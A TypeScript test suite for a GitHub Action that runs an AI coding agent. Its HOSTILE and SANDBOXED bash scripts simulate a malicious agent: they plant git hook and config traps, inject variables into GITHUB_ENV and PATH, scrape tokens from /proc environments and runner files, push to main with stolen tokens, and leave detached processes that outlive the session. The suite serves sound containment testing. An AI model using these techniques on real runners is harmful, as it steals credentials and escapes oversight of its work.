/**
 * A hostile agent against the Action, run as the runner runs it: the built bundle, the loopback GitHub
 * and the App (world.ts), BOTH jobs of the default topology (the agent's job with a `contents: read`
 * token, the publish job with the write token, the bundle carried between them as upload-artifact and
 * download-artifact would: a copy into the publish job's own RUNNER_TEMP), each step with its own
 * GITHUB_ENV / GITHUB_PATH / GITHUB_STATE files, and a later step's environment built from what earlier
 * steps appended to them, as the runner does.
 *
 * The agent tries every technique of issue 12 and more (see {@link HOSTILE}); the suite counts, over all
 * scenarios of the default topology:
 * - write credentials reachable from agent code (the write token, or its header form, in anything the
 *   agent or a process it left behind could read; for Artifacts sessions also the Cloudflare API token
 *   and every repo token the publish job minted): 0;
 * - refs changed on GitHub other than the session's own branch: 0;
 * - agent code executed by Gittrix (a trap the agent planted, run after the agent's turn ended): 0;
 * - work lost (a file the agent wrote that is neither in the published session nor reported): 0.
 * The same techniques in the same-job opt-in are run too, and what they still reach is asserted.
 *
 * "The job ends" is simulated as the runner's machine going away: processes the agent deliberately
 * detached from everything (it writes their pids to its loot directory) are killed between the jobs.
 */
import { execFileSync, spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type BundleRun, parseFileCommand, runBundle, runPublishJob } from '../action/support.ts'
import { ArtifactsStandIn } from '../support/artifacts-stand-in.ts'
import { appEnv, NAMESPACE, publishInputs } from './artifacts-world.ts'
import { World } from './world.ts'

/** Files written by the agent's many-files technique (names long enough that the list exceeds 1 MB). */
const MANY = 4_500
const LONG = 'n'.repeat(230)

/**
 * The hostile agent (bash). `$LOOT` is a directory outside the workspace where it stores what it found;
 * `$PHASE` names the scenario. Every trap it plants appends to `$LOOT/executed` when it runs after the
 * agent wrote `$LOOT/agent-done`, i.e. when Gittrix (not the agent) ran it.
 */
const HOSTILE = String.raw`
set +e
mkdir -p "$LOOT"
# --- traps: programs git would run if Gittrix read this repository's configuration or environment
cat > "$LOOT/trap" <<'EOF'
#!/bin/sh
if [ -e "$LOOT_DIR/agent-done" ]; then echo "$0 $*" >> "$LOOT_DIR/executed"; fi
cat
EOF
sed -i "s|\$LOOT_DIR|$LOOT|g" "$LOOT/trap"
chmod +x "$LOOT/trap"
mkdir -p "$LOOT/fakebin"
for tool in git git-remote-http git-remote-https; do
  printf '#!/bin/sh\necho "fake $0 $*" >> "%s/executed"\nenv >> "%s/fake-git-env"\nexit 1\n' "$LOOT" "$LOOT" > "$LOOT/fakebin/$tool"
  chmod +x "$LOOT/fakebin/$tool"
done
git config filter.evil.clean "$LOOT/trap"
git config filter.evil.smudge "$LOOT/trap"
git config filter.evil.process "$LOOT/trap"
echo '* filter=evil diff=evil' >> .git/info/attributes
git config diff.evil.textconv "$LOOT/trap"
git config diff.external "$LOOT/trap"
git config core.fsmonitor "$LOOT/trap"
git config core.pager "$LOOT/trap"
git config core.sshCommand "$LOOT/trap"
git config core.askPass "$LOOT/trap"
git config credential.helper "!$LOOT/trap"
git config gpg.program "$LOOT/trap"
git config commit.gpgSign true
git config core.hooksPath "$LOOT/hooks"
printf '[core]\n\tfsmonitor = %s\n[include]\n\tpath = %s\n' "$LOOT/trap" "$LOOT/more.config" > "$LOOT/included.config"
printf '[filter "evil"]\n\tclean = %s\n' "$LOOT/trap" > "$LOOT/more.config"
git config include.path "$LOOT/included.config"
mkdir -p "$LOOT/hooks" .git/hooks
for hook in pre-commit post-commit reference-transaction post-checkout post-index-change pre-push pre-auto-gc; do
  cp "$LOOT/trap" "$LOOT/hooks/$hook"; cp "$LOOT/trap" ".git/hooks/$hook"
done
# --- steer the later steps through the runner's file commands, found even when withheld
for f in $(ls "$RUNNER_TEMP"/env "$RUNNER_TEMP"/*/env 2>/dev/null) $GITHUB_ENV; do
  printf 'GIT_TRACE_CURL=%s/trace-curl\nGIT_TRACE_REDACT=0\nGIT_TRACE=%s/trace\nGIT_EXEC_PATH=%s/fakebin\nGIT_CONFIG_PARAMETERS=%s\nGIT_SSL_NO_VERIFY=1\nGIT_CONFIG_GLOBAL=%s/included.config\n' \
    "$LOOT" "$LOOT" "$LOOT" "'core.fsmonitor=$LOOT/trap'" "$LOOT" >> "$f"
done
for f in $(ls "$RUNNER_TEMP"/path "$RUNNER_TEMP"/*/path 2>/dev/null) $GITHUB_PATH; do echo "$LOOT/fakebin" >> "$f"; done
for f in $(ls "$RUNNER_TEMP"/state 2>/dev/null) $GITHUB_STATE; do printf 'gittrix-session-id=sess_zzzzzzzzzzzz\ngittrix-workspace=/tmp\n' >> "$f"; done
# --- harvest credentials: own environment, every readable process environment, files, git config
env > "$LOOT/env"
cat /proc/$PPID/environ 2>/dev/null | tr '\0' '\n' > "$LOOT/parent-environ"
for p in /proc/[0-9]*; do tr '\0' '\n' < "$p/environ" 2>/dev/null | grep -E 'INPUT_|TOKEN|AUTHORIZATION|extraheader' ; done > "$LOOT/all-environ" 2>/dev/null
cat .git/config > "$LOOT/git-config" 2>/dev/null
ls -laR "$RUNNER_TEMP" > "$LOOT/runner-temp" 2>/dev/null
grep -rIE 'ghs_|art_v1_|cf-api-' "$RUNNER_TEMP" "$HOME" > "$LOOT/grep-files" 2>/dev/null
# --- try to write refs on GitHub with whatever was found
export GIT_TERMINAL_PROMPT=0
for token in $(grep -ohE 'ghs_[A-Za-z0-9]+' "$LOOT"/* 2>/dev/null | sort -u); do
  header="AUTHORIZATION: basic $(printf 'x-access-token:%s' "$token" | base64 -w0)"
  git -c credential.helper= -c core.askPass=true -c core.hooksPath=/dev/null -c "http.extraheader=$header" push -q origin HEAD:refs/heads/main 2>> "$LOOT/push-errors"
  git -c credential.helper= -c core.askPass=true -c core.hooksPath=/dev/null -c "http.extraheader=$header" push -q origin HEAD:refs/heads/evil 2>> "$LOOT/push-errors"
  git -c credential.helper= -c core.askPass=true -c core.hooksPath=/dev/null -c "http.extraheader=$header" push -q origin HEAD:refs/tags/evil 2>> "$LOOT/push-errors"
done
# --- the work: plain files, names git refuses, nested repositories, a file over 100 MiB, many files
echo "# Changed by the agent" > README.md
echo "new" > added.txt
mkdir -p .GIT sub/.Git && echo x > .GIT/config && echo y > sub/.Git/hooks
# the hostile agent's own identity, as an agent's script would write it: it commits with whatever it likes
mkdir -p vendor/lib && (cd vendor/lib && git init -q && echo lib > lib.txt && git add lib.txt && git -c user.name=a -c user.email=a@b -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -qm lib)
mkdir -p scratch && (cd scratch && git init -q && echo pending > notes.txt)
truncate -s 105000000 huge.bin
mkdir -p many && for i in $(seq 1 ${MANY}); do : > "many/${LONG}$i"; done
# --- processes that outlive the agent: one in the group, one in a new session, one that scrubs its environment
( while true; do date >> "$LOOT/bg-group"; sleep 0.2; done ) &
setsid sh -c 'while true; do echo tick >> "$0/bg-setsid"; sleep 0.2; done' "$LOOT" &
setsid env -i LOOT="$LOOT" sh -c 'echo $$ >> "$LOOT/escaped-pids"; while true; do for p in /proc/[0-9]*; do tr "\0" "\n" < "$p/environ" 2>/dev/null | grep -E "INPUT_TOKEN|extraheader"; done >> "$LOOT/survivor-environ" 2>/dev/null; sleep 0.3; done' &
sleep 0.5
touch "$LOOT/agent-done"
exit 0
`
  .replaceAll('${MANY}', String(MANY))
  .replaceAll('${LONG}', LONG)

/** What one scenario measured. */
interface Counts {
  credentials: number
  refs: number
  executed: number
  lost: number
}

const totals: Counts = { credentials: 0, refs: 0, executed: 0, lost: 0 }
let world: World
/** The Cloudflare Artifacts stand-in (REST control plane and git), shared by the Artifacts scenarios. */
let standIn: ArtifactsStandIn
const dirs: string[] = []

function tmp(prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix))
  dirs.push(dir)
  return dir
}

beforeAll(async () => {
  // The App (a server elsewhere in production, a process on this machine here) has a Cloudflare token
  // of its own: what the agent could read of the App's process is not the Action's credential.
  standIn = await new ArtifactsStandIn({
    namespace: NAMESPACE,
    appApiToken: `cf-app-${randomBytes(12).toString('hex')}`,
  }).start()
  world = await World.start({ appEnv: { ...appEnv(standIn), ARTIFACTS_API_TOKEN: standIn.appApiToken! } })
}, 180_000)

afterAll(async () => {
  await world?.stop()
  await standIn?.stop()
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true })
  console.log(`hostile agent, two-job topology: ${JSON.stringify(totals)}`)
})

/** The runner's machine going away at the end of a job: every process the agent detached dies. */
function endJob(loot: string): void {
  const file = join(loot, 'escaped-pids')
  if (!existsSync(file)) return
  for (const pid of readFileSync(file, 'utf8').split('\n').filter(Boolean)) {
    try {
      process.kill(Number(pid), 'SIGKILL')
    } catch {
      // already gone
    }
  }
}

/** Everything the agent (and what it left running) could read, as one text. */
function loot(dir: string): string {
  return readdirSync(dir)
    .filter((name) => !['fakebin', 'hooks', 'trap'].includes(name))
    .map((name) => {
      try {
        return readFileSync(join(dir, name), 'utf8')
      } catch {
        return ''
      }
    })
    .join('\n')
}

/** Occurrences of the write token (raw or in its header form) in `text`. */
function writeCredentials(text: string): number {
  const token = world.github.workflowToken
  const header = Buffer.from(`x-access-token:${token}`).toString('base64')
  return text.split(token).length - 1 + (text.split(header).length - 1)
}

/**
 * Occurrences of a Cloudflare credential in `text`: the API token, and every repo token the stand-in
 * minted (whole, or its secret part without `?expires=`).
 */
function cloudflareCredentials(text: string): number {
  const repoTokens = [...standIn.tokens.keys()]
  const secrets = [standIn.apiToken, ...repoTokens, ...repoTokens.map((t) => t.split('?')[0]!)]
  return secrets.reduce((sum, secret) => sum + text.split(secret).length - 1, 0)
}

function executedByGittrix(dir: string): string[] {
  const file = join(dir, 'executed')
  return existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter(Boolean) : []
}

/** Ref changes since `before`, except the session's own branch. */
function foreignRefChanges(before: Map<string, string>, sessionBranch: string | null): string[] {
  const after = world.github.allRefs()
  const changed: string[] = []
  for (const name of new Set([...before.keys(), ...after.keys()])) {
    if (before.get(name) === after.get(name)) continue
    if (sessionBranch && name === `refs/heads/${sessionBranch}`) continue
    changed.push(name)
  }
  return changed
}

/**
 * Files of the agent's work that the published session (commit `head` of `gitDir`: GitHub's, or an
 * Artifacts repository's) does not hold and no output reported. The nested repositories count by their files; their `.git` directories and the refused names are
 * expected in `skipped-files` or as flattened repositories.
 */
function lostWork(head: string, skipped: string[], gitDir = world.github.gitDir): string[] {
  const listing = execFileSync('git', ['--git-dir', gitDir, 'ls-tree', '-r', '--name-only', head], {
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  })
  const tree = new Set(listing.split('\n'))
  const expected = [
    'README.md',
    'added.txt',
    'vendor/lib/lib.txt',
    'scratch/notes.txt',
    ...Array.from({ length: MANY }, (_, i) => `many/${LONG}${i + 1}`),
  ]
  const reported = ['.GIT/config', 'sub/.Git/hooks', 'huge.bin']
  return [
    ...expected.filter((path) => !tree.has(path)),
    ...reported.filter((path) => !tree.has(path) && !skipped.includes(path)),
  ]
}

function add(counts: Counts): void {
  for (const key of Object.keys(totals) as Array<keyof Counts>) totals[key] += counts[key]
}

/** The environment of the runner for a step, with the job's accumulated GITHUB_ENV and GITHUB_PATH. */
interface Job {
  env: Record<string, string>
  path: string[]
}

/** Applies what a step wrote to its GITHUB_ENV / GITHUB_PATH files to the job, as the runner does. */
function absorb(job: Job, files: { env: string; path: string }): void {
  Object.assign(job.env, parseFileCommand(readFileSync(files.env, 'utf8')))
  for (const line of readFileSync(files.path, 'utf8').split('\n').filter(Boolean)) job.path.unshift(line)
}

/**
 * Runs a `run:` step (bash) of the job with its own file-command files; resolves them for
 * {@link absorb}. Asynchronous: the loopback GitHub answering the step's git runs in this process.
 */
async function runStep(
  job: Job,
  script: string,
  cwd: string,
  extra: Record<string, string>,
): Promise<{ env: string; path: string }> {
  const files = tmp('gittrix-step-')
  const paths = { env: join(files, 'env'), path: join(files, 'path'), state: join(files, 'state') }
  for (const p of Object.values(paths)) writeFileSync(p, '')
  const child = spawn('bash', ['-c', script], {
    cwd,
    env: {
      ...process.env,
      ...job.env,
      ...extra,
      PATH: [...job.path, process.env.PATH].join(':'),
      GITHUB_ENV: paths.env,
      GITHUB_PATH: paths.path,
      GITHUB_STATE: paths.state,
    },
    stdio: 'ignore',
  })
  await new Promise<void>((done, fail) => {
    child.on('error', fail)
    child.on('exit', () => done())
  })
  return paths
}

describe('hostile agent, default topology (two jobs)', () => {
  it('mode run: publishes only its own branch, holds no write token, runs no agent code, loses no work', async () => {
    const ws = await world.checkout()
    const lootDir = tmp('gittrix-loot-')
    const before = world.github.allRefs()
    const refused = world.github.refusedPushes
    const agent = await runBundle({
      inputs: { token: world.github.readOnlyToken, task: 'Fix the parser', run: HOSTILE, timeout: '5m' },
      env: { ...world.runnerEnv(ws), LOOT: lootDir },
      cwd: ws,
    })
    const stoppedBeforeSnapshot = readFileSync(join(lootDir, 'bg-setsid'), 'utf8').length
    endJob(lootDir)
    expect(agent.errors, agent.stdout).toEqual([])
    expect(agent.code).toBe(0)
    // The leftovers in the group and in a new session were stopped and reported before the snapshot.
    expect(agent.warnings.join('\n')).toMatch(/process\(es\) the agent left running were stopped/)
    await new Promise((done) => setTimeout(done, 600))
    expect(readFileSync(join(lootDir, 'bg-setsid'), 'utf8').length).toBe(stoppedBeforeSnapshot)

    const publish = await runPublishJob({
      agentJob: agent,
      token: world.github.workflowToken,
      env: world.runnerEnv(tmp('gittrix-publish-')),
    })
    expect(publish.errors, publish.stdout).toEqual([])
    const id = publish.outputs['session-id']!
    const head = publish.outputs['head-sha']!
    expect(world.github.head(`gittrix/${id}`)).toBe(head)
    await world.reviewed(id, head)

    const text = loot(lootDir)
    // The harvest worked (so this test can fail): the agent found the read-only token and tried it.
    expect(text).toContain(world.github.readOnlyToken)
    expect(world.github.refusedPushes).toBeGreaterThan(refused)
    const skipped = JSON.parse(agent.outputs['skipped-files']!) as string[]
    const counts: Counts = {
      credentials: writeCredentials(text),
      refs: foreignRefChanges(before, `gittrix/${id}`).length,
      executed: executedByGittrix(lootDir).length,
      lost: lostWork(head, skipped).length,
    }
    add(counts)
    expect(counts).toEqual({ credentials: 0, refs: 0, executed: 0, lost: 0 })
    expect(skipped.sort()).toEqual(['.GIT/config', 'huge.bin', 'sub/.Git/hooks'])
    expect(agent.summary).toContain('Not recorded: 3 path(s)')
    expect(agent.warnings.join('\n')).toContain('vendor/lib/ is a git repository of its own')
    const modes = execFileSync(
      'git',
      ['--git-dir', world.github.gitDir, 'ls-tree', '-r', '--format=%(objectmode)', head],
      {
        encoding: 'utf8',
        maxBuffer: 64 * 1024 * 1024,
      },
    )
    expect(modes.split('\n')).not.toContain('160000')
    // The traps are live (so counting them means something): plain git in the checkout runs them.
    await new Promise((done) =>
      spawn('git', ['status', '--short'], {
        cwd: ws,
        stdio: 'ignore',
        env: { ...process.env, LOOT: lootDir },
      }).on('exit', done),
    )
    expect(executedByGittrix(lootDir).length).toBeGreaterThan(0)
    // touched-files stays under GitHub's 1 MB output limit; the count says how many there are.
    for (const run of [agent, publish]) {
      expect(Buffer.byteLength(run.outputs['touched-files']!)).toBeLessThan(1024 * 1024)
      expect(Number(run.outputs['touched-count'])).toBeGreaterThan(MANY)
      expect(JSON.parse(run.outputs['touched-files']!).length).toBeLessThan(
        Number(run.outputs['touched-count']),
      )
    }
  }, 300_000)

  it('ephemeral: artifacts: the agent job finds no Cloudflare and no GitHub write credential; publish creates only its own repository and branch', async () => {
    const ws = await world.checkout()
    const lootDir = tmp('gittrix-loot-')
    const before = world.github.allRefs()
    const mark = standIn.requests.length
    const reposBefore = standIn.repoNames()
    const agent = await runBundle({
      inputs: {
        token: world.github.readOnlyToken,
        task: 'Fix the parser',
        run: HOSTILE,
        timeout: '5m',
        ephemeral: 'artifacts',
        'artifacts-namespace': NAMESPACE,
      },
      env: { ...world.runnerEnv(ws), LOOT: lootDir },
      cwd: ws,
    })
    endJob(lootDir)
    expect(agent.errors, agent.stdout).toEqual([])
    // Nothing in the agent's job spoke to Cloudflare: it had nothing to speak with.
    expect(standIn.requests.slice(mark)).toEqual([])

    const publish = await runPublishJob({
      agentJob: agent,
      token: world.github.workflowToken,
      env: world.runnerEnv(tmp('gittrix-publish-')),
      inputs: publishInputs(standIn),
    })
    expect(publish.errors, publish.stdout).toEqual([])
    const id = publish.outputs['session-id']!
    const repo = `gittrix-${world.github.api.repoId}-${id}`
    const head = publish.outputs['head-sha']!
    expect(
      execFileSync('git', ['--git-dir', standIn.gitDir(repo), 'rev-parse', 'main'], {
        encoding: 'utf8',
      }).trim(),
    ).toBe(head)
    // The publish job created exactly the session's own repository.
    expect(standIn.repoNames().filter((name) => !reposBefore.includes(name))).toEqual([repo])
    const pointer = world.github.head(`gittrix/${id}`)!
    await world.reviewed(id, pointer)

    const text = loot(lootDir)
    // The harvest worked (so this test can fail): the agent found the read-only token and tried it.
    expect(text).toContain(world.github.readOnlyToken)
    // The publish job did mint repo tokens, which the agent must not have.
    expect(standIn.tokens.size).toBeGreaterThan(0)
    const skipped = JSON.parse(agent.outputs['skipped-files']!) as string[]
    const counts: Counts = {
      credentials: writeCredentials(text) + cloudflareCredentials(text),
      refs: foreignRefChanges(before, `gittrix/${id}`).length,
      executed: executedByGittrix(lootDir).length,
      lost: lostWork(head, skipped, standIn.gitDir(repo)).length,
    }
    add(counts)
    expect(counts).toEqual({ credentials: 0, refs: 0, executed: 0, lost: 0 })
  }, 300_000)

  it('modes start and finish as separate steps: steered env and PATH, an edited record and state, leftovers', async () => {
    const ws = await world.checkout()
    const lootDir = tmp('gittrix-loot-')
    const before = world.github.allRefs()
    const job: Job = { env: { ...world.runnerEnv(ws), LOOT: lootDir }, path: [] }
    const files = tmp('gittrix-job-temp-')
    job.env.RUNNER_TEMP = files
    const start = await runBundle({
      inputs: { mode: 'start', token: world.github.readOnlyToken, task: 'Fix the parser' },
      env: job.env,
      cwd: ws,
    })
    expect(start.errors, start.stdout).toEqual([])
    Object.assign(job.env, start.exported)
    // The agent's own step; then it also edits the session record's baseline.
    const stepFiles = await runStep(job, HOSTILE, ws, {})
    const record = join(ws, '.git', 'gittrix', 'session.json')
    const parsed = JSON.parse(readFileSync(record, 'utf8')) as { baselineSha: string; topology: string }
    parsed.baselineSha = world.git('rev-parse', 'HEAD:README.md').padEnd(40, '0').slice(0, 40)
    parsed.topology = 'same-job'
    writeFileSync(record, JSON.stringify(parsed))
    absorb(job, stepFiles)
    expect(job.env.GIT_TRACE_CURL).toBe(join(lootDir, 'trace-curl'))
    expect(job.path[0]).toBe(join(lootDir, 'fakebin'))

    const finish = await runBundle({
      inputs: { mode: 'finish', token: world.github.readOnlyToken },
      env: { ...job.env, PATH: [...job.path, process.env.PATH].join(':') },
      cwd: ws,
    })
    expect(finish.errors, finish.stdout).toEqual([])
    expect(finish.warnings.join('\n')).toContain('was edited after the session started')
    expect(finish.warnings.join('\n')).toMatch(/left running were stopped/)
    expect(finish.outputs['baseline-sha']).toBe(start.outputs['baseline-sha'])
    // The post step of start, with a state line the agent appended: it changes nothing.
    const post = await runBundle({
      inputs: { mode: 'start', token: world.github.readOnlyToken, task: 'Fix the parser' },
      env: { ...job.env, PATH: [...job.path, process.env.PATH].join(':') },
      cwd: ws,
      post: { ...start.state, 'gittrix-session-id': 'sess_zzzzzzzzzzzz', 'gittrix-workspace': '/tmp' },
    })
    expect(post.errors).toEqual([])
    expect(post.warnings).toEqual([])
    endJob(lootDir)

    const publish = await runPublishJob({
      agentJob: finish,
      token: world.github.workflowToken,
      env: world.runnerEnv(tmp('gittrix-publish-')),
    })
    expect(publish.errors, publish.stdout).toEqual([])
    const id = publish.outputs['session-id']!
    const head = publish.outputs['head-sha']!
    expect(publish.outputs['baseline-sha']).toBe(start.outputs['baseline-sha'])
    expect(publish.outputs['diff-stat']).not.toBe('No changes')
    const skipped = JSON.parse(finish.outputs['skipped-files']!) as string[]
    const counts: Counts = {
      credentials: writeCredentials(loot(lootDir)),
      refs: foreignRefChanges(before, `gittrix/${id}`).length,
      executed: executedByGittrix(lootDir).length,
      lost: lostWork(head, skipped).length,
    }
    add(counts)
    expect(counts).toEqual({ credentials: 0, refs: 0, executed: 0, lost: 0 })
    expect(existsSync(join(lootDir, 'trace-curl'))).toBe(false)
    expect(existsSync(join(lootDir, 'fake-git-env'))).toBe(false)
  }, 300_000)

  it('a forged bundle (another ref, another run, another session) is refused; nothing is written', async () => {
    const ws = await world.checkout()
    const before = world.github.allRefs()
    const agent = await runBundle({
      inputs: { token: world.github.readOnlyToken, task: 'Fix the parser', run: 'echo forged > f.txt' },
      env: world.runnerEnv(ws),
      cwd: ws,
    })
    expect(agent.errors).toEqual([])
    const bundle = agent.outputs.bundle!
    const id = agent.outputs['session-id']!
    const git = (...args: string[]) => execFileSync('git', ['-C', ws, ...args], { encoding: 'utf8' }).trim()
    const forge = (name: string, ...refs: string[]): BundleRun => {
      const file = join(tmp('gittrix-forged-'), `${name}.bundle`)
      git('bundle', 'create', '-q', file, ...refs, `^${agent.outputs['baseline-sha']}`)
      return { ...agent, outputs: { ...agent.outputs, bundle: file } }
    }
    git('update-ref', 'refs/heads/main', agent.outputs['head-sha']!)
    git('update-ref', `refs/heads/gittrix/sess_aaaaaaaaaaaa`, agent.outputs['head-sha']!)
    const cases: Array<[BundleRun, RegExp | string]> = [
      [forge('main', 'refs/heads/main'), 'exactly one ref'],
      [forge('two', `refs/heads/gittrix/${id}`, 'refs/heads/main'), 'exactly one ref'],
      [forge('renamed', 'refs/heads/gittrix/sess_aaaaaaaaaaaa'), /start commit/],
    ]
    for (const [forged, why] of cases) {
      const run = await runPublishJob({
        agentJob: forged,
        token: world.github.workflowToken,
        env: world.runnerEnv(tmp('gittrix-publish-')),
      })
      expect(run.code).toBe(1)
      expect(run.errors.join('\n')).toMatch(why)
    }
    const otherRun = await runPublishJob({
      agentJob: { ...agent, outputs: { ...agent.outputs, bundle } },
      token: world.github.workflowToken,
      env: { ...world.runnerEnv(tmp('gittrix-publish-')), GITHUB_RUN_ID: '7777' },
    })
    expect(otherRun.errors.join('\n')).toContain('not this run (7777)')
    const refs = foreignRefChanges(before, null)
    add({ credentials: 0, refs: refs.length, executed: 0, lost: 0 })
    expect(refs).toEqual([])
  }, 300_000)

  it('timeout ends the agent and its children; their work so far is kept', async () => {
    const ws = await world.checkout()
    const lootDir = tmp('gittrix-loot-')
    const agent = await runBundle({
      inputs: {
        token: world.github.readOnlyToken,
        task: 'Fix the parser',
        run: 'echo early > early.txt; (while true; do date >> "$LOOT/child"; sleep 0.1; done) & sleep 300',
        timeout: '3s',
      },
      env: { ...world.runnerEnv(ws), LOOT: lootDir },
      cwd: ws,
    })
    expect(agent.code).toBe(1)
    expect(agent.errors.join('\n')).toContain('ran out of time')
    const size = readFileSync(join(lootDir, 'child'), 'utf8').length
    await new Promise((done) => setTimeout(done, 500))
    expect(readFileSync(join(lootDir, 'child'), 'utf8').length).toBe(size)
    expect(JSON.parse(agent.outputs['touched-files']!)).toEqual(['early.txt'])
  }, 120_000)

  it('a self-hosted re-run after a job that died before finish starts cleanly and says what happened', async () => {
    const ws = await world.checkout()
    const first = await runBundle({
      inputs: { mode: 'start', token: world.github.readOnlyToken, task: 'Fix the parser' },
      env: { ...world.runnerEnv(ws), GITHUB_RUN_ATTEMPT: '1' },
      cwd: ws,
    })
    expect(first.errors).toEqual([])
    // The job died; the next attempt's actions/checkout cleans the work tree and checks out main again.
    execFileSync('git', ['-C', ws, 'checkout', '-q', '--detach', world.github.head('main')!])
    const again = await runBundle({
      inputs: { mode: 'start', token: world.github.readOnlyToken, task: 'Fix the parser' },
      env: { ...world.runnerEnv(ws), GITHUB_RUN_ATTEMPT: '2' },
      cwd: ws,
    })
    expect(again.errors, again.stdout).toEqual([])
    expect(again.warnings.join('\n')).toContain(`Session ${first.outputs['session-id']} of an earlier run`)
  }, 120_000)
})

describe('what the same-job opt-in still exposes', () => {
  it('ephemeral: artifacts: the agent reads the Cloudflare API token from the Action process', async () => {
    const ws = await world.checkout()
    const lootDir = tmp('gittrix-loot-')
    const run = await runBundle({
      inputs: {
        token: world.github.workflowToken,
        task: 'Fix the parser',
        run: HOSTILE,
        topology: 'same-job',
        ephemeral: 'artifacts',
        ...publishInputs(standIn),
      },
      env: { ...world.runnerEnv(ws), LOOT: lootDir },
      cwd: ws,
    })
    endJob(lootDir)
    expect(run.errors.join('\n')).toBe('')
    // Documented in docs/artifacts.md#github-action: /proc/$PPID/environ holds INPUT_ARTIFACTS-API-TOKEN (and INPUT_TOKEN).
    expect(readFileSync(join(lootDir, 'parent-environ'), 'utf8')).toContain(
      `INPUT_ARTIFACTS-API-TOKEN=${standIn.apiToken}`,
    )
    expect(cloudflareCredentials(loot(lootDir))).toBeGreaterThan(0)
    expect(executedByGittrix(lootDir)).toEqual([])
  }, 300_000)

  it('the agent reads the write token from the Action process; Gittrix still runs none of its code', async () => {
    const ws = await world.checkout()
    const lootDir = tmp('gittrix-loot-')
    mkdirSync(lootDir, { recursive: true })
    const run = await runBundle({
      inputs: {
        token: world.github.workflowToken,
        task: 'Fix the parser',
        run: HOSTILE,
        topology: 'same-job',
      },
      env: { ...world.runnerEnv(ws), LOOT: lootDir },
      cwd: ws,
    })
    endJob(lootDir)
    expect(run.errors.join('\n')).toBe('')
    // Documented in docs/action.md#same-job-topology-same-job-the-agent-can-read-the-token: /proc/$PPID/environ of the Action holds INPUT_TOKEN.
    expect(writeCredentials(loot(lootDir))).toBeGreaterThan(0)
    // With it the agent moved refs of its choice (the ruleset in docs/github-app.md is the boundary here).
    expect(readFileSync(join(lootDir, 'parent-environ'), 'utf8')).toContain('INPUT_TOKEN=')
    // Gittrix itself still ran none of the agent's traps and lost none of its work.
    expect(executedByGittrix(lootDir)).toEqual([])
    const skipped = JSON.parse(run.outputs['skipped-files']!) as string[]
    expect(lostWork(run.outputs['head-sha']!, skipped)).toEqual([])
  }, 300_000)
})

/**
 * The same-job topology with `sandbox: true`: what the agent reaches is what the sandbox shows it. Its
 * loot goes into the workspace (the only place it can write), so it travels in the session itself.
 */
const SANDBOXED = String.raw`
set +e
mkdir -p probe
cat /proc/$PPID/environ 2>/dev/null | tr '\0' '\n' > probe/parent-environ
for p in /proc/[0-9]*; do tr '\0' '\n' < "$p/environ" 2>/dev/null; done > probe/all-environ
ls /proc | grep -cE '^[0-9]+$' > probe/process-count
env > probe/env
cat .git/config > probe/git-config 2>/dev/null
grep -rIhoE 'ghs_[A-Za-z0-9]+' "$HOST_TEMP" /tmp "$HOME" 2>/dev/null | sort -u > probe/found-tokens
ls -la "$HOST_TEMP" > probe/runner-temp 2>&1
echo escaped > "$HOST_TEMP/escaped" 2>> probe/write-errors
echo escaped > "$HOST_LOOT/escaped" 2>> probe/write-errors
echo "# Changed in the sandbox" > README.md
( sleep 3; echo late > late-group.txt ) &
setsid sh -c 'sleep 3; echo late > late-setsid.txt' &
exit 0
`

describe('sandbox: true', () => {
  it('same-job: the agent finds no token in /proc or the runner files, writes nowhere but the checkout, and nothing outlives it', async () => {
    const ws = await world.checkout()
    const hostLoot = tmp('gittrix-loot-')
    // The runner's temporary directory outside /tmp (as on a runner: /home/runner/work/_temp), holding
    // what an agent would look for there; /tmp is private in the sandbox anyway.
    const runnerTemp = mkdtempSync(join(homedir(), '.gittrix-runner-temp-'))
    dirs.push(runnerTemp)
    mkdirSync(join(runnerTemp, '_runner_file_commands'))
    writeFileSync(
      join(runnerTemp, '_runner_file_commands', 'set_env'),
      `TOKEN=${world.github.workflowToken}\n`,
    )
    const runnerEnv = { ...world.runnerEnv(ws), RUNNER_TEMP: runnerTemp }
    const run = await runBundle({
      inputs: {
        token: world.github.workflowToken,
        task: 'Fix the parser',
        run: SANDBOXED,
        topology: 'same-job',
        sandbox: 'true',
      },
      env: { ...runnerEnv, HOST_TEMP: runnerTemp, HOST_LOOT: hostLoot },
      cwd: ws,
    })
    expect(run.errors.join('\n')).toBe('')
    const head = run.outputs['head-sha']!
    const show = (path: string) =>
      execFileSync('git', ['--git-dir', world.github.gitDir, 'show', `${head}:${path}`], { encoding: 'utf8' })
    // The work arrived: the agent's edit and its probe files are the session.
    expect(show('README.md')).toBe('# Changed in the sandbox\n')
    const probe = ['parent-environ', 'all-environ', 'env', 'git-config', 'found-tokens', 'runner-temp']
      .map((name) => show(`probe/${name}`))
      .join('\n')
    // The same probe without the sandbox reads INPUT_TOKEN from /proc/$PPID/environ (the test above).
    expect(writeCredentials(probe)).toBe(0)
    expect(probe).not.toContain('INPUT_TOKEN')
    // Only the sandbox's own processes are visible (its init, bash, and the probe's pipeline).
    expect(Number(show('probe/process-count'))).toBeLessThan(10)
    // Nothing was written outside the checkout; the runner's temporary directory was not even visible.
    expect(existsSync(join(runnerTemp, 'escaped'))).toBe(false)
    expect(existsSync(join(hostLoot, 'escaped'))).toBe(false)
    expect(show('probe/runner-temp')).not.toMatch(/_runner_file_commands|gittrix/)
    // What the agent left running ended with it: no late file in the session or, later, in the checkout.
    const tree = execFileSync(
      'git',
      ['--git-dir', world.github.gitDir, 'ls-tree', '-r', '--name-only', head],
      {
        encoding: 'utf8',
      },
    )
    expect(tree).not.toMatch(/late-/)
    await new Promise((done) => setTimeout(done, 4_000))
    expect(readdirSync(ws).filter((name) => name.startsWith('late-'))).toEqual([])
  }, 300_000)
})
